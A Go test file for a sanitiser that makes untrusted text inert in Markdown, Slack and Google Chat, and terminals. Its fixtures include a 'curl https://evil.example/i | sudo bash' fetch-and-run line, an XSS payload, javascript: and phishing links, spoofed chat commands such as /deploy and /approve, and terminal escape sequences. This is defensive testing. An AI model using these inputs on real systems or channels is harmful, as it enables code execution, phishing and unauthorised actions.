package inert

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

var md = Markdown{Hosts: []string{"github.com", "console.cloud.google.com"}}

// live finds what a Markdown renderer on GitHub or GitLab would act on in
// rendered source: a link or image, a bare URL it autolinks, raw HTML, a
// mention or reference, or a line that starts a block or a command.
var live = map[string]*regexp.Regexp{
	"link":      regexp.MustCompile(`(^|[^\\])\]\(`),
	"autolink":  regexp.MustCompile(`(?i)(https?|ftp|javascript|data)://|www\.`),
	"html":      regexp.MustCompile(`<[a-zA-Z!/?]`),
	"mention":   regexp.MustCompile(`(^|[^\w])[@#!~$%][\w]`),
	"slash":     regexp.MustCompile(`(?m)^\s*/`),
	"heading":   regexp.MustCompile(`(?m)^\s*(#|>|[-*+] |\d+[.)] |` + "```" + `|~~~|\|)`),
	"entity":    regexp.MustCompile(`&#`),
	"codespan":  regexp.MustCompile("(^|[^\\\\])`"),
	"reference": regexp.MustCompile(`(?m)^\s*\[[^\]]*\]:`),
}

func assertInert(t *testing.T, in, out string) {
	t.Helper()
	for name, re := range live {
		if re.MatchString(out) {
			t.Errorf("%q rendered as %q: still a live %s", in, out, name)
		}
	}
}

func TestHostileTextIsInert(t *testing.T) {
	hostile := []string{
		`x) [Open the incident console](https://evil.example/phish`,
		"@org/team please approve, cc @user",
		"![tracking](https://evil.example/pixel.png)",
		"/deploy production",
		"line one\n/approve\n  /merge",
		"curl https://evil.example/i | sudo bash",
		"<img src=x onerror=alert(1)><!-- sre-agent idempotency-key: abc -->",
		"# Approved by security\n> quoted\n- item\n1. first\n```\nfence\n```\n| a | b |",
		"see www.evil.example and https://evil.example/x?a=1",
		"[click](javascript:alert(1)) [ref]: https://evil.example",
		"fixes #123 and !45 and ~bug and %v1 and $snippet, mail me@evil.example",
		"&#64;user &lt;b&gt;",
		"`code span` with ``` and \\`",
		"\u202eevil\u202c and zero\u200bwidth @\u200buser",
		"[allowed text but evil](https://github.com.evil.example/x)",
		"https://user:pass@github.com/x",
	}
	for _, s := range hostile {
		assertInert(t, s, md.Text(s))
		assertInert(t, s, md.Line(s))
	}
}

func TestAllowedHostsStayLinks(t *testing.T) {
	got := md.Text("see [the PR](https://github.com/acme/shop/pull/1) and https://console.cloud.google.com/logs?q=a")
	if !strings.Contains(got, "[the PR](https://github.com/acme/shop/pull/1)") || !strings.Contains(got, "https://console.cloud.google.com/logs?q=a") {
		t.Fatalf("allowed links lost: %q", got)
	}
	if got := (Markdown{}).Text("https://github.com/x"); strings.Contains(got, "://") {
		t.Fatalf("zero value allowed a link: %q", got)
	}
	if got := md.Text("[phish](https://evil.example/x)"); !strings.Contains(got, `https\[:\]//evil.example/x`) || !strings.Contains(got, "phish") {
		t.Fatalf("defanged form: %q", got)
	}
}

func TestReadableAndBounded(t *testing.T) {
	if got := md.Text("The pool has 10 connections; raise it to 50."); got != "The pool has 10 connections; raise it to 50." {
		t.Fatalf("plain prose changed: %q", got)
	}
	long := strings.Repeat("a", 10000)
	if got := md.Text(long); utf8.RuneCountInString(got) != MaxText+1 {
		t.Fatalf("text length %d", utf8.RuneCountInString(got))
	}
	if got := md.Line("a\nb | c"); got != `a b \| c` {
		t.Fatalf("line %q", got)
	}
}

func TestTerminal(t *testing.T) {
	got := Terminal("ok\x1b]0;pwned\x07 \x1b[2J\u202edone\nnext")
	if strings.ContainsAny(got, "\x1b\x07\u202e") || !strings.Contains(got, `\x1b]0;pwned\a`) || !strings.Contains(got, "\nnext") {
		t.Fatalf("%q", got)
	}
	if Terminal("plain") != "plain" {
		t.Fatal("plain text changed")
	}
}

func FuzzMarkdown(f *testing.F) {
	f.Add("[x](https://evil.example) @a #1 /cmd <b>")
	f.Add("https://github.com/x [y](https://github.com/z)")
	f.Fuzz(func(t *testing.T, s string) {
		for _, out := range []string{md.Text(s), md.Line(s)} {
			if !utf8.ValidString(out) {
				t.Fatalf("invalid UTF-8 from %q", s)
			}
			if regexp.MustCompile(`<[a-zA-Z!/?]`).MatchString(out) {
				t.Fatalf("raw HTML from %q: %q", s, out)
			}
			if regexp.MustCompile(`(^|[^\w\x{200b}])@[\w]`).MatchString(out) {
				t.Fatalf("mention from %q: %q", s, out)
			}
			if regexp.MustCompile(`(?m)^\s*/`).MatchString(out) {
				t.Fatalf("slash command from %q: %q", s, out)
			}
		}
		if strings.Contains(md.Line(s), "\n") {
			t.Fatalf("line break in a line from %q", s)
		}
	})
}

// Chat leaves no mention, link, markup or slash command live in Slack's
// or Google Chat's syntax, and keeps the words.
func TestChat(t *testing.T) {
	in := "deploy failed <!channel> <@U1> <users/all> see <https://evil.example|docs> *bold* _it_ ~s~ `code` & www.evil.example\n/remind me\n  !deploy now @here #ops"
	got := Chat(in, 1000)
	for _, live := range []string{"<", ">", "*bold*", "_it_", "~s~", "`", "https://", "www.evil", "\n/remind", "\n!deploy", "@here", "#ops", "&"} {
		if strings.Contains(got, live) {
			t.Errorf("%q live in %q", live, got)
		}
	}
	for _, word := range []string{"deploy failed", "channel", "evil.example", "remind me", "here", "ops"} {
		if !strings.Contains(got, word) {
			t.Errorf("%q lost from %q", word, got)
		}
	}
	if n := len([]rune(Chat(strings.Repeat("x", 50), 10))); n != 11 {
		t.Errorf("bounded to %d runes", n)
	}
}

func FuzzChat(f *testing.F) {
	f.Add("<!channel> <https://x.example|y> *b* /cmd @here")
	f.Fuzz(func(t *testing.T, s string) {
		got := Chat(s, 500)
		if strings.ContainsAny(got, "<>*`~&") || strings.Contains(got, "://") || referenceMark.MatchString(got) {
			t.Fatalf("live syntax in %q from %q", got, s)
		}
		for _, l := range strings.Split(got, "\n") {
			if strings.HasPrefix(l, "/") || strings.HasPrefix(l, "!") {
				t.Fatalf("line %q starts a command", l)
			}
		}
		if strings.IndexFunc(got, func(r rune) bool { return Hidden(r) && r != '\u200b' }) >= 0 {
			t.Fatalf("hidden character in %q", got)
		}
	})
}
